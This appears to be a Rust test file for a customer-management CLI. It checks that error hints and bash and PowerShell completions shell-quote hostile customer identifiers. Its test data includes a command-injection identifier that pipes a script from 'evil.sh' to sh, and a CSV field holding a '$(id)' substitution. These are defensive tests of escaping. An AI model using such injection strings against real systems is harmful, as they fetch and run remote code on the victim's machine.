//! What a hostile daemon, or a hostile record, does to the machine of who asks for it: nothing.

use crate::support::run::run;
use crate::support::world::{World, mfa};
use serde_json::json;
use std::fs;
use std::os::unix::fs::symlink;
use std::process::Command;

/// A customer's identifier may have any signs but a slash and control characters.
const EVIL: &str = "c;curl evil.sh|sh";

#[test]
fn a_hint_quotes_identifiers_for_the_shell() {
    let world = World::start();
    let body = json!({ "identifier": EVIL, "givenName": "Ama", "surname": "Owusu",
        "dateOfBirth": { "year": 1990, "month": 2, "day": 28 } });
    world.post("/customers", body.to_string()).is(202);
    let same = ["customers", "create", "c-10", "-g", "Ama", "-s", "Owusu", "-d", "1990-02-28"];
    let ran = run(world.mfa(&same));
    assert!(ran.err.contains(&format!("compare them: mfa customers get '{EVIL}'\n")), "{}", ran.err);
    let deposit = ["teller", "deposit", "T1", "--account", "x", "--amount", "1", "--yes", "--customer", EVIL];
    let said = run(world.mfa(&deposit)).fails(3);
    assert!(said.contains(&format!("mfa accounts list --customer '{EVIL}'")), "{said}");
    let said = run(world.mfa(&["profile", "use", "a;b"])).fails(3);
    assert!(said.contains("mfa profile add 'a;b'"), "{said}");
    let file = world.dir.path().join("rows.csv");
    fs::write(&file, "identifier,a'$(id)'\nc-1,x\n").unwrap();
    let said = run(world.mfa(&["customers", "import", file.to_str().unwrap()])).fails(2);
    assert!(said.contains(r"--map 'a'\''$(id)'\''=FIELD'"), "{said}");
}

#[test]
fn a_completed_identifier_is_one_word_of_the_shell() {
    let world = World::start();
    world.post("/customers", json!({ "identifier": EVIL }).to_string()).is(202);
    let folder = tempfile::tempdir().unwrap();
    symlink(env!("CARGO_BIN_EXE_mfa"), folder.path().join("mfa")).unwrap();
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/../completions/mfa.bash");
    let line = "COMP_WORDS=(mfa customers get c); COMP_CWORD=3; COMP_LINE='mfa customers get c'";
    let bash = || {
        let mut command = Command::new("bash");
        command.args(["--norc", "-c", &format!("source {script}; {line}; _mfa; echo \"${{COMPREPLY[0]}}\"")]);
        command.env("MFA_URL", world.url());
        command.env("PATH", format!("{}:/usr/bin:/bin", folder.path().display()));
        run(command).ok()
    };
    // A busy machine may offer nothing at first.
    let found = (0..20).map(|_| bash()).find(|found| found.len() > 1).unwrap_or_default();
    assert_eq!(found, "c\\;curl\\ evil.sh\\|sh\n");
    // PowerShell inserts what it is given as it is.
    let script = run(world.mfa(&["completions", "powershell"])).ok();
    let quotes = r#"$word = "'" + ($value -replace "['\u2018-\u201b]", '$0$0') + "'""#;
    assert!(script.contains(quotes) && script.contains("CompletionResult]::new($word,"), "{script}");
}
